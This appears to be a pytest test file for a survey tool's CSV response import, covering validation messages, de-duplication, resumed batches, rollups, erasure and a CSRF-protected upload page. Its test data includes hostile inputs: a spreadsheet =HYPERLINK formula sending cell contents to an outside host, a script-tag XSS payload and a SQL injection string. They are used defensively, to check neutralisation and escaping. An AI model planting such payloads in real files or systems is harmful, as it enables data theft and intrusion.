"""Historical responses from CSV: every kind of bad cell is named by row and column and nothing is
stored; good files store every answer type, count in the rollups, skip on re-import, and an export
imports again with the same answers; the command and the upload page (CSRF on) report both outcomes."""
from __future__ import annotations

import hashlib
import io
import sys
from datetime import date, datetime

import pytest
from sqlalchemy import func, select

from survey.addresses import normalise_email
from survey.background import jobs
from survey.extensions import db
from survey.models import (
    Answer,
    AnswerCount,
    AuditEntry,
    Contact,
    FollowUpCase,
    OutboxMessage,
    Response,
    ResponseRevision,
    ResponseTag,
    SurveyVersion,
)
from survey.responding.submission import Consents, Respondent, submit_response
from survey.results import rollups
from survey.transfer import exports, response_import
from tests.factories import NOW, make_definition, make_survey, make_user
from tests.pages import log_in, post_form, text_of

HEADER = "submitted_at,email,attr.location,satisfaction,recommend,channel,topics,resolved,comment\n"
GOOD = HEADER + ("2026-03-02 10:00,Ann@Example.com,Leeds,5,9,Phone,Billing;delivery,yes,Great\n"
                 "2026-03-03T10:00:00+01:00,,York,2,,email,,no,\n")


def run(survey, text: str | bytes, *, now: datetime = NOW):
    data = text.encode() if isinstance(text, str) else text
    return response_import.import_responses(survey, data, now=now, actor="test")


def problems_of(survey, text: str | bytes) -> list[str]:
    with pytest.raises(response_import.ResponseImportError) as refused:
        run(survey, text)
    return [str(problem) for problem in refused.value.problems]


def stored(survey) -> list[dict]:
    """Every response of the survey as the JSON export describes it (answers in their native form)."""
    return [{k: v for k, v in record.items() if k not in ("response_id",)}
            for record in exports.export_records(exports.Selection(survey))]


def counts() -> dict:
    """Cell → count, each cell under the number of the version its responses answered."""
    return {(c.question_key, c.local_date, c.segment_name, c.segment_value, c.value_int, number): c.count
            for c, number in db.session.execute(select(AnswerCount, SurveyVersion.number)
                                                .join(SurveyVersion, AnswerCount.version_id == SurveyVersion.id))
            if c.count}


def test_every_answer_type_is_stored_as_the_live_form_stores_it(ctx):
    survey = make_survey()
    db.session.add(Contact(email="ann@example.com", name="Ann", attributes={"location": "Bath"}, created_at=NOW))
    db.session.commit()
    outcome = run(survey, GOOD)
    assert (outcome.imported, outcome.skipped, outcome.contacts_created, outcome.per_version) == (2, 0, 0, {1: 2})
    first, second = stored(survey)
    assert first == {
        "submitted_at": "2026-03-02T10:00:00Z", "updated_at": "2026-03-02T10:00:00Z", "version": 1,
        "email": "ann@example.com", "source": "import", "attributes": {"location": "Leeds"},
        "answers": {"satisfaction": 5, "recommend": 9, "channel": "Phone", "topics": ["Billing", "Delivery"],
                    "resolved": True, "comment": "Great"},
        "quote_consent": False, "contact_consent": False, "tags": [],
        "sentiment": {"comment": {"score": 0.6249, "label": "positive"}}}  # scored as the import finished
    assert second["submitted_at"] == "2026-03-03T09:00:00Z" and second["email"] is None and second["sentiment"] == {}
    assert second["answers"] == {"satisfaction": 2, "channel": "Email", "resolved": False}
    rows = {(a.question_key, a.value_int, a.value_text) for a in db.session.scalars(select(Answer))}
    assert ("channel", 1, "Phone") in rows and ("topics", 2, "Delivery") in rows and ("resolved", 0, None) in rows
    # History: no revision (nothing was submitted through a form), no follow-up case for the low score (2 of
    # 5 opens one when a customer answers), nothing sent.
    assert db.session.scalar(select(func.count(ResponseRevision.id))) == 0
    assert db.session.scalar(select(func.count(FollowUpCase.id))) == 0
    assert db.session.scalar(select(func.count(OutboxMessage.id))) == 0
    assert db.session.scalar(select(Response.revisions_count).limit(1)) == 1
    audit = db.session.scalar(select(AuditEntry).where(AuditEntry.action == "responses.imported"))
    assert audit.actor == "test" and audit.detail == {"imported": 2, "skipped": 0, "skipped_erased": 0,
                                                      "contacts_created": 0}


def test_a_file_with_a_bom_and_crlf_line_ends_imports_like_the_plain_one(ctx):
    """As Excel saves "CSV UTF-8" and as Hearken's web download is: a BOM and CRLF (RFC 4180), with a
    line break kept inside a quoted comment."""
    plain, excel = make_survey(), make_survey(slug="excel")
    text = GOOD.replace("yes,Great", 'yes,"Great,\nthanks"')
    assert run(plain, text).imported == 2
    assert run(excel, b"\xef\xbb\xbf" + text.replace("\n", "\r\n").encode()).imported == 2
    assert stored(excel) == stored(plain)
    assert stored(excel)[0]["answers"]["comment"] == "Great,\nthanks"


def test_a_time_without_offset_is_the_organisations(app):
    app.config["TIMEZONE"] = "Europe/London"
    with app.app_context():
        survey = make_survey()
        run(survey, "submitted_at,satisfaction\n2026-07-01 00:30,4\n2026-01-10 23:30:00Z,3\n2026-07-01T23:30Z,5\n")
        moments = db.session.execute(select(Response.submitted_at, Response.local_date).order_by(Response.id)).all()
    assert moments == [(datetime(2026, 6, 30, 23, 30), date(2026, 7, 1)),  # BST: an hour ahead of UTC
                       (datetime(2026, 1, 10, 23, 30), date(2026, 1, 10)),
                       (datetime(2026, 7, 1, 23, 30), date(2026, 7, 2))]


# (file after the header line of HEADER, the problem as reported)
BAD_CELLS = [
    (",,,4,,,,,", "row 2, column submitted_at: is required (when the response was given, e.g. 2026-03-31 14:05)"),
    ("yesterday,,,4,,,,,", "row 2, column submitted_at: 'yesterday' is not a date and time in ISO 8601 form"),
    ("2026-11-02 09:00,,,4,,,,,", "row 2, column submitted_at: 2026-11-02 09:00 is in the future"),
    ("0001-01-01T00:00:00+01:00,,,4,,,,,", "row 2, column submitted_at: 0001-01-01 is outside the years 1900–2999"),
    ("2026-01-01,ann@,,4,,,,,", "row 2, column email: 'ann@' is not a valid email address"),
    ("2026-01-01,,,6,,,,,", "row 2, column satisfaction: 6 is not on the 5-point scale (1–5)"),
    ("2026-01-01,,,0,,,,,", "row 2, column satisfaction: 0 is not on the 5-point scale (1–5)"),
    ("2026-01-01,,,Satisfied,,,,,",
     "row 2, column satisfaction: 'Satisfied' is a label: write its position on the 5-point scale (1–5) instead, 4"),
    ("2026-01-01,,,great,,,,,", "row 2, column satisfaction: 'great' is not a number on the 5-point scale (1–5)"),
    ("2026-01-01,,,,11,,,,", "row 2, column recommend: 11 is not on the NPS scale (0–10)"),
    ("2026-01-01,,,,,Fax,,,", "row 2, column channel: 'Fax' is not one of the options (Phone, Email, In store)"),
    ("2026-01-01,,,,,,Billing;Pets,,", "row 2, column topics: 'Pets' is not one of the options"),
    ("2026-01-01,,,,,,,maybe,", "row 2, column resolved: 'maybe' is not yes or no"),
    ("2026-01-01,,,,,,,," + "x" * 5001, "row 2, column comment: is 5001 characters long; a long text answer may "
                                        "have 5000"),
    ("2026-01-01,," + "L" * 201 + ",,,,,,", "row 2, column attr.location: is longer than 200 characters"),
    ("2026-01-01,,,4,,,,", "row 2: expected 9 cells (as in the header), found 8"),
]


@pytest.mark.parametrize("line, message", BAD_CELLS)
def test_every_bad_cell_is_named_by_row_and_column_and_nothing_is_stored(ctx, line, message):
    survey = make_survey()
    found = problems_of(survey, HEADER + line + "\n2026-01-01,,,3,,,,,\n")  # a good row after the bad one
    assert found[0].startswith(message) and len(found) == 1, found
    assert db.session.scalar(select(func.count(Response.id))) == 0
    assert db.session.scalar(select(func.count(Contact.id))) == 0


EXPORT_HEADER = ("response_id,submitted_at,updated_at,version,email,source,satisfaction,quote_consent,"
                 "contact_consent,tags\n")
BAD_EXPORT_CELLS = [
    ("1,2026-01-02,2026-01-01,1,,link,4,no,no,", "row 2, column updated_at: is before submitted_at"),
    ("1,2026-01-02,,7,,link,4,no,no,", "row 2, column version: '7' is not a version of this survey (1–1)"),
    ("1,2026-01-02,,1,,link,4,sure,no,", "row 2, column quote_consent: 'sure' is not yes or no"),
    ("1,2026-01-02,,1,,link,4,no,no," + "t" * 65, "row 2, column tags: the theme 'tttt"),
]


@pytest.mark.parametrize("line, message", BAD_EXPORT_CELLS)
def test_the_exports_columns_are_checked_too(ctx, line, message):
    survey = make_survey()
    found = problems_of(survey, EXPORT_HEADER + line + "\n")
    assert found[0].startswith(message), found


def test_a_question_keyed_like_a_column_of_the_file_is_refused_not_read_as_the_other(ctx):
    """Such keys are refused now; a survey made before keeps them, and its CSV column is ambiguous: the
    import says so instead of dropping its answers or reading them as themes."""
    survey = make_survey()
    version = survey.current_version
    version.questions[-1].key = "tags"  # as an older version allowed
    db.session.commit()
    found = problems_of(survey, "submitted_at,tags,satisfaction\n2026-01-05 10:00,Cheap,4\n")
    assert found == ["row 1, column tags: is both a column of this format and the key of one of this survey's "
                     "questions, so it cannot be told which it holds"]
    assert db.session.scalar(select(func.count(Response.id))) == 0


@pytest.mark.parametrize("data, message", [
    (b"", "row 1: the file is empty"),
    (b"email,satisfaction\na@example.com,4\n", "row 1: the header has no submitted_at column"),
    (b"submitted_at,satisfaction,Satisfaction\n", "row 1, column Satisfaction: appears twice (columns 2 and 3)"),
    (b"submitted_at,,satisfaction\n", "row 1, column #2: this column of the header has no name"),
    (b"submitted_at,colour,mood\n", "row 1, column colour: is not a column of this survey"),
    (b"submitted_at,attr.\n", "row 1, column attr.: needs an attribute name"),
    (b"submitted_at,satisfaction\n2026-01-01,4\n2026-01-02,\"5\n", "row 3: not valid CSV"),
    (b"submitted_at,satisfaction\r2026-01-01,4\r", "row 1: not valid CSV: a line break outside quotes, or lines "
                                                    "ending in a lone carriage return"),
    (b"submitted_at,comment\n2026-01-01,Caf\xe9\n", "row 2, column comment: is not UTF-8 text"),
    (b"submitted_at,comment\n2026-01-01,a\x00b\n", "row 2, column comment: contains a NUL character"),
    (b"submitted_at,comm\xe9nt\n", "row 1: the header is not UTF-8 text"),
])
def test_a_bad_header_or_encoding_is_named_and_nothing_is_stored(ctx, data, message):
    survey = make_survey()
    found = problems_of(survey, data)
    assert found[0].startswith(message), found
    assert db.session.scalar(select(func.count(Response.id))) == 0


def test_unknown_columns_are_each_named(ctx):
    survey = make_survey()
    assert problems_of(survey, "submitted_at,colour,satisfaction,mood\n") == [
        f"row 1, column {name}: is not a column of this survey: use submitted_at, email, attr.<name>, the export's "
        "columns or a question key (channel, comment, recommend, resolved, satisfaction, topics)"
        for name in ("colour", "mood")]


def test_a_rows_problems_are_listed_in_the_files_column_order(ctx):
    survey = make_survey()
    assert problems_of(survey, "comment,satisfaction,email,submitted_at,attr.team\n,9,x,soon," + "t" * 201 + "\n") == [
        "row 2, column satisfaction: 9 is not on the 5-point scale (1–5)",
        "row 2, column email: 'x' is not a valid email address: An email address must have an @-sign.",
        "row 2, column submitted_at: 'soon' is not a date and time in ISO 8601 form, e.g. 2026-03-31 14:05 or "
        "2026-03-31T14:05:00+01:00",
        "row 2, column attr.team: is longer than 200 characters"]


def test_rows_are_numbered_as_a_spreadsheet_numbers_them(ctx):
    """A quoted cell with a line break is one spreadsheet row; a blank line is a row too (and skipped)."""
    survey = make_survey()
    text = HEADER + '2026-01-01,,,4,,,,,"two\nlines"\n\n2026-01-02,,,9,,,,,\n'
    assert problems_of(survey, text) == ["row 4, column satisfaction: 9 is not on the 5-point scale (1–5)"]


def test_every_problem_is_counted_the_first_100_listed_and_nothing_kept_after_batches_were_written(
        ctx, monkeypatch):
    monkeypatch.setattr(response_import, "BATCH", 7)  # several batches are written before the first problem
    survey = make_survey()
    good = "".join(f"2026-01-{day:02},c{day}@example.com,Leeds,4,,,,,\n" for day in range(1, 29))
    bad = "".join(f"2026-02-01,,,{9 + i % 3},,,,,\n" for i in range(150))
    with pytest.raises(response_import.ResponseImportError) as refused:
        run(survey, HEADER + good + bad)
    error = refused.value
    assert error.total == 150 and len(error.problems) == 100
    assert str(error.problems[0]) == "row 30, column satisfaction: 9 is not on the 5-point scale (1–5)"
    assert error.summary() == "nothing imported: 150 problems (the first 100 are listed)"
    assert db.session.scalar(select(func.count(Response.id))) == 0
    assert db.session.scalar(select(func.count(Contact.id))) == 0
    assert db.session.scalar(select(func.count(AnswerCount.id))) == 0


def test_importing_again_skips_what_is_stored_and_identical_rows_are_separate_responses(ctx, monkeypatch):
    monkeypatch.setattr(response_import, "BATCH", 2)
    survey = make_survey()
    same_day_twice = HEADER + "2026-01-05,,,4,,,,,\n2026-01-05,,,4,,,,,\n"
    assert run(survey, same_day_twice).imported == 2
    again = run(survey, same_day_twice)
    assert (again.imported, again.skipped) == (0, 2)
    # A longer file: the same rows (other column order, another way to write the time) and one more.
    more = ("satisfaction,submitted_at,email\n4,2026-01-05T00:00:00Z,\n4,2026-01-05 00:00,\n"
            "4,2026-01-05,\n5,2026-01-06,Bob@example.com\n")
    outcome = run(survey, more)
    assert (outcome.imported, outcome.skipped, outcome.contacts_created) == (2, 2, 1)
    assert db.session.scalar(select(func.count(Response.id))) == 4


class Interrupted(Exception):
    pass


class Stopping(response_import.Progress):
    """A run killed right after its `after`-th committed batch (never, when 0); what it saw, to resume it."""

    def __init__(self, after: int):
        self.after, self.batches, self.phases, self.done, self.saved = after, 0, set(), 0, None

    def tick(self, phase, done, total=None):
        self.phases.add(phase)

    def checkpoint(self, done, state):
        db.session.commit()
        self.batches, self.done, self.saved = self.batches + 1, done, state
        if self.batches == self.after:
            raise Interrupted


class Resuming(Stopping):
    def __init__(self, stopped: Stopping):
        super().__init__(after=0)
        self.resume_from, self.state = stopped.done, stopped.saved


REPEATED = HEADER + "".join(f"2026-01-0{1 + i // 4},,,{4 if i % 4 < 3 else 5},,,,,\n" for i in range(12))


def test_identical_rows_keep_their_keys_when_an_interrupted_import_resumes(ctx, monkeypatch):
    """Rows 1-3, 5-7 and 9-11 are three identical rows each: the resumed run (its first batches stored
    by the interrupted one) gives every row the key an uninterrupted run gives it, so the file imported
    again skips them all, and it reads the file again as still writing, never as checking."""
    monkeypatch.setattr(response_import, "BATCH", 2)
    monkeypatch.setattr(response_import, "TICK", 1)
    survey = make_survey()
    stopped = Stopping(after=2)
    with pytest.raises(Interrupted):
        response_import.import_responses(survey, REPEATED.encode(), now=NOW, actor="test", progress=stopped)
    db.session.rollback()
    assert db.session.scalar(select(func.count(Response.id))) == stopped.done == 4
    resumed = Resuming(stopped)
    outcome = response_import.import_responses(survey, REPEATED.encode(), now=NOW, actor="test", progress=resumed)
    assert (outcome.imported, outcome.skipped) == (12, 0) and resumed.phases == {"writing"}
    assert db.session.scalar(select(func.count(func.distinct(Response.respondent_key)))) == 12
    assert run(survey, REPEATED).skipped == 12


def test_identical_rows_are_found_with_a_bit_per_row_not_every_rows_digest(ctx, monkeypatch):
    """The first pass keeps a bitmap of the rows' digests, not the digests (65 MB at a million rows): rows
    whose bit was set before are noted and counted in the second pass. With the smallest bitmap every row
    shares its bit with others, and the keys are still those an ample bitmap gives."""
    rows = HEADER + "".join(f"2026-01-{1 + i % 28:02} 10:{i % 60:02},,,{1 + i % 5},,,,,\n" for i in range(3000))
    rows += rows[len(HEADER):]  # every row twice
    monkeypatch.setattr(response_import.Repeats, "LARGEST", 64)
    survey = make_survey()
    assert run(survey, rows).imported == 3000 + 3000
    monkeypatch.undo()
    again = run(survey, rows)
    assert (again.imported, again.skipped) == (0, 6000)
    repeats = response_import.Repeats(10_000_000)  # a file of 10 MB: a bitmap of 2^24 bits (2 MiB)
    for i in range(20_000):  # 20 000 different rows: a dozen share a bit with an earlier one
        repeats.see(int.from_bytes(hashlib.blake2b(str(i).encode(), digest_size=8).digest()))
    assert len(repeats.bitmap) == 1 << 21 and len(repeats.candidates) < 60


def test_on_sqlite_batches_are_written_with_a_16_mib_page_cache_and_the_settings_restored_after(ctx, monkeypatch):
    """A 64 MiB cache was no faster once batches commit, and was a third of a million-row import's peak
    memory (docs/benchmarks.md); the WAL is checkpointed rarely while the import writes."""
    if db.engine.dialect.name != "sqlite":
        pytest.skip("SQLite's own settings")
    monkeypatch.setattr(response_import, "BATCH", 1)
    settings = []

    class Watching(response_import.Progress):
        def checkpoint(self, done, state):
            connection = db.session.connection()
            settings.append(tuple(connection.exec_driver_sql(f"PRAGMA {name}").scalar_one()
                                  for name in ("cache_size", "wal_autocheckpoint")))
            db.session.commit()

    connection = db.session.connection()
    before = tuple(connection.exec_driver_sql(f"PRAGMA {name}").scalar_one()
                   for name in ("cache_size", "wal_autocheckpoint"))
    response_import.import_responses(make_survey(), GOOD.encode(), now=NOW, actor="test", progress=Watching())
    assert settings == [(-16 * 1024, response_import.SQLITE_WAL_PAGES)] * 2
    connection = db.session.connection()
    assert tuple(connection.exec_driver_sql(f"PRAGMA {name}").scalar_one()
                 for name in ("cache_size", "wal_autocheckpoint")) == before


def test_addresses_are_checked_through_email_validators_public_call_alone(ctx, monkeypatch):
    """An import changes nothing in email_validator, which every other thread validating an address
    meanwhile would see; each distinct address is still checked, and a bad one named."""
    library = {name for name in sys.modules if name == "email_validator" or name.startswith("email_validator.")}
    before, unchanged = {name: dict(vars(sys.modules[name])) for name in library}, []

    def watched(email):
        unchanged.append({name: dict(vars(sys.modules[name])) for name in library} == before)
        return normalise_email(email)
    monkeypatch.setattr(response_import, "normalise_email", watched)
    survey = make_survey()
    rows = "".join(f"2026-03-0{day} 10:00,{email},Leeds,4,,,,,\n" for day, email in
                   enumerate(("a@example.com", "b@example.com", "a@example.com", "c@example.com"), start=1))
    assert run(survey, HEADER + rows).imported == 4
    assert unchanged == [True] * 3  # once per distinct address
    [problem] = problems_of(survey, HEADER + "2026-03-05 10:00,d@example..com,Leeds,4,,,,,\n")
    assert problem.startswith("row 2, column email: 'd@example..com' is not a valid email address")


def test_a_row_belongs_to_the_newest_version_that_asks_its_questions(ctx):
    survey = make_survey(definition=make_definition(questions=[
        {"key": "overall", "type": "rating", "text": "Overall?", "scale": ["Bad", "Good"]},
        {"key": "old", "type": "choice", "text": "Old?", "options": ["A", "B"]}]))
    run(survey, "submitted_at,overall\n2026-01-01,1\n")  # now version 1 has a response
    from survey import authoring
    from survey.authoring.definitions import parse_survey
    authoring.import_survey(parse_survey(make_definition(questions=[
        {"key": "overall", "type": "rating", "text": "Overall?", "scale": ["Bad", "Good"]},
        {"key": "new", "type": "choice", "text": "New?", "options": ["B", "A", "C"]}])), actor=None, now=NOW)
    outcome = run(survey, "submitted_at,overall,old,new\n2026-01-02,2,A,\n2026-01-03,2,,A\n2026-01-04,1,,\n")
    assert outcome.per_version == {1: 1, 2: 2}
    rows = db.session.execute(select(Answer.question_key, Answer.value_int).where(
        Answer.question_key.in_(["old", "new"])).order_by(Answer.id)).all()
    assert rows == [("old", 1), ("new", 2)]  # an option's position in its own version
    assert problems_of(survey, "submitted_at,old,new\n2026-01-05,A,A\n") == [
        "row 2, column old: no single version of this survey asks every question this row answers (new, old); a "
        "row is one response to one version"]
    assert problems_of(survey, "submitted_at,version,old\n2026-01-05,2,A\n") == [
        "row 2, column old: version 2 has no question old"]


def test_imported_rows_count_in_the_rollups_exactly_as_a_rebuild_counts_them(ctx):
    survey = make_survey()
    live = Respondent(key="live", source="public", attributes={"location": "Leeds"})
    submit_response(survey.current_version, live, {"satisfaction": 4, "recommend": 9}, Consents(),
                    submission_key="s" * 20, now=datetime(2026, 3, 2, 12))
    run(survey, GOOD + "2026-03-02 18:00,,Leeds,4,9,,,,\n")
    incremental = counts()
    rollups.rebuild(survey.id)
    db.session.commit()
    assert counts() == incremental
    day = date(2026, 3, 2)
    assert incremental[("satisfaction", day, "location", "Leeds", 4, 1)] == 2
    assert incremental[(rollups.RESPONSES_KEY, day, "", "", 1, 1)] == 3


def test_imported_rows_count_under_the_version_they_answered(ctx):
    """Rows of two versions in one file (one named by the version column, the others by their questions),
    beside live responses to either: each response's cells are its version's, as a rebuild counts them."""
    from survey import authoring
    from survey.authoring.definitions import parse_survey

    survey = make_survey()
    submit_response(survey.current_version, Respondent(key="live-1", source="public", attributes={"location": "Leeds"}),
                    {"satisfaction": 4}, Consents(), submission_key="a" * 20, now=datetime(2026, 3, 2, 12))
    definition = make_definition()
    definition["questions"].append({"key": "effort", "type": "rating", "text": "Effort?", "scale": ["Hard", "Easy"]})
    authoring.import_survey(parse_survey(definition), actor=None, now=NOW)
    submit_response(survey.current_version, Respondent(key="live-2", source="public", attributes={"location": "Leeds"}),
                    {"satisfaction": 4, "effort": 2}, Consents(), submission_key="b" * 20,
                    now=datetime(2026, 3, 2, 13))
    outcome = run(survey, "submitted_at,version,attr.location,satisfaction,effort\n"
                          "2026-03-02 10:00,1,Leeds,4,\n"  # version 1 by its column
                          "2026-03-02 11:00,,Leeds,4,\n"  # the newest version asking these questions: 2
                          "2026-03-02 12:00,,York,2,1\n")
    assert outcome.per_version == {1: 1, 2: 2}
    incremental = counts()
    day = date(2026, 3, 2)
    assert incremental[("satisfaction", day, "location", "Leeds", 4, 1)] == 2
    assert incremental[("satisfaction", day, "location", "Leeds", 4, 2)] == 2
    assert incremental[("effort", day, "", "", 1, 2)] == 1 and incremental[("effort", day, "", "", 2, 2)] == 1
    assert incremental[(rollups.RESPONSES_KEY, day, "", "", 1, 1)] == 2
    assert incremental[(rollups.RESPONSES_KEY, day, "", "", 1, 2)] == 3
    rollups.rebuild(survey.id)
    db.session.commit()
    assert counts() == incremental


HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1", "-1+1", "@SUM(A1)",
           "<script>alert(1)</script>", "'quoted already", "Robert'); DROP TABLE responses;--",
           "'=) thanks", "'-North", "''twice"]  # a value that starts with the marker comes back as it was


def test_an_export_imports_again_with_the_same_answers_hostile_text_included(ctx):
    source = make_survey()
    target = make_survey(slug="copy")
    version = source.current_version
    for i, comment in enumerate(HOSTILE):
        respondent = Respondent(key=f"k{i}", source="public", attributes={"location": "=Leeds", "team": "A"})
        submit_response(version, respondent, {"satisfaction": i % 5 + 1, "topics": ["Billing", "Product"],
                                              "resolved": i % 2 == 0, "channel": "In store", "comment": comment},
                        Consents(quote=i % 2 == 0, contact=True), submission_key=f"submission-{i:02}" + "x" * 8,
                        now=datetime(2026, 10, i + 1, 8, 30))
    first = db.session.scalar(select(Response.id).order_by(Response.id).limit(1))
    db.session.add(ResponseTag(response_id=first, tag="billing", created_at=NOW))
    db.session.commit()
    exported = io.StringIO()
    exports.write_csv(exports.Selection(source), exported)
    assert "'=HYPERLINK" in exported.getvalue()  # neutralised in the file …
    outcome = run(target, exported.getvalue())
    assert outcome.imported == len(HOSTILE)
    assert [dict(r, source="public") for r in stored(target)] == stored(source)  # … and restored exactly
    comments = set(db.session.scalars(select(Answer.value_text).join(Response).where(
        Response.survey_id == target.id, Answer.question_key == "comment")))
    assert comments == set(HOSTILE)
    assert run(target, exported.getvalue()).skipped == len(HOSTILE)


def test_import_responses_command_prints_the_outcome_or_every_problem_and_exits_1(ctx, runner, tmp_path):
    make_survey()
    good, bad = tmp_path / "good.csv", tmp_path / "bad.csv"
    good.write_text(GOOD)
    bad.write_text(HEADER + "2026-01-01,,,6,,,,,\n2026-01-02,nope,,4,,,,,\n")
    done = runner.invoke(args=["import-responses", "support-csat", str(good)])
    assert done.exit_code == 0, done.output
    assert "imported 2 responses, skipped 0 already imported, created 1 contact" in done.output
    refused = runner.invoke(args=["import-responses", "support-csat", str(bad)])
    assert refused.exit_code == 1 and "Traceback" not in refused.output
    assert f"{bad}: row 2, column satisfaction: 6 is not on the 5-point scale (1–5)" in refused.output
    assert f"{bad}: row 3, column email:" in refused.output and "nothing imported: 2 problems" in refused.output
    assert runner.invoke(args=["import-responses", "nope", str(good)]).exit_code == 1
    assert runner.invoke(args=["import-responses", "support-csat", str(tmp_path / "missing.csv")]).exit_code == 2
    assert db.session.scalar(select(func.count(Response.id))) == 2


URL = "/manage/surveys/support-csat/responses/import"


def upload(client, data: bytes, name: str = "history.csv"):
    return post_form(client, URL, {"file": (io.BytesIO(data), name)}, content_type="multipart/form-data")


def upload_and_run(client, data: bytes, name: str = "history.csv"):
    """The upload answers at once with the job's page; the dispatcher runs it; the page then shows how it ended."""
    queued = upload(client, data, name)
    assert queued.status_code == 303 and "/manage/jobs/" in queued.location
    waiting = client.get(queued.location)
    assert waiting.status_code == 200 and "Waiting to start" in text_of(waiting)
    assert '<meta http-equiv="refresh"' in waiting.get_data(as_text=True)
    assert jobs.run_due() == 1
    return client.get(queued.location)


def test_upload_page_imports_and_shows_every_problem_escaped(ctx, client):
    make_survey()
    make_user()
    log_in(client, "manager@example.com")
    page = client.get(URL)
    assert page.status_code == 200 and "1–5 (1 = Extremely dissatisfied, 5 = Extremely satisfied)" in text_of(page)
    done = upload_and_run(client, GOOD.encode())
    assert done.status_code == 200 and "Imported 2 responses" in text_of(done)
    assert "http-equiv" not in done.get_data(as_text=True)  # it ended: no more refreshing
    hostile = (HEADER + "2026-01-01,,<b>x</b>,4,,<script>alert(1)</script>,,,\n").encode()
    refused = upload_and_run(client, hostile)
    html = refused.get_data(as_text=True)
    assert "Nothing was imported" in html
    assert "&lt;script&gt;" in html and "<script>alert" not in html
    assert "&#39;&lt;script&gt;alert(1)&lt;/script&gt;&#39; is not one of the options" in html
    wrong = upload(client, GOOD.encode(), name="history.xlsx")
    assert wrong.status_code == 422 and "Choose a .csv file" in text_of(wrong)
    assert db.session.scalar(select(func.count(Response.id))) == 2
    listed = text_of(client.get("/manage/jobs"))
    assert "Import of responses history.csv into" in listed and "nothing imported: 1 problem" in listed


def test_the_upload_needs_the_pages_csrf_token_and_an_editor(app, client):
    # No application context around the requests: each has its own, and so its own CSRF token (in g).
    with app.app_context():
        make_survey()
        make_user()
        make_user(email="analyst@example.com", role="analyst")
    log_in(client, "manager@example.com")
    assert "Import responses" in text_of(client.get("/manage/surveys/support-csat"))
    forged = client.post(URL, data={"file": (io.BytesIO(GOOD.encode()), "h.csv")}, content_type="multipart/form-data")
    assert forged.status_code == 400
    analyst = app.test_client()
    log_in(analyst, "analyst@example.com")
    assert analyst.get(URL).status_code == 403
    assert "Import responses" not in text_of(analyst.get("/manage/surveys/support-csat"))
    with app.app_context():
        assert db.session.scalar(select(func.count(Response.id))) == 0


def test_importing_responses_again_after_an_erasure_brings_no_one_back_and_counts_nothing_twice(ctx):
    """Erasure replaces the person's respondent keys (nothing links them to their address), so the same file
    imported again did not know their rows: it counted their answers twice and made them a contact again.
    Their rows are skipped now, counted without naming them."""
    from survey.outreach import contacts

    survey = make_survey()
    first = run(survey, GOOD)
    assert (first.imported, first.contacts_created) == (2, 1)
    contacts.erase_contact(contacts.find_contact("ann@example.com"), actor="test", actor_id=None, now=NOW)
    before = counts()
    again = run(survey, GOOD.replace("Ann@Example.com", "ANN@example.com"))
    assert (again.imported, again.skipped, again.skipped_erased, again.contacts_created) == (0, 1, 1, 0)
    assert "and 1 of people erased on request" in again.summary() and "ann" not in again.summary().lower()
    assert counts() == before and len(stored(survey)) == 2
    assert db.session.scalar(select(func.count()).select_from(Contact)) == 0
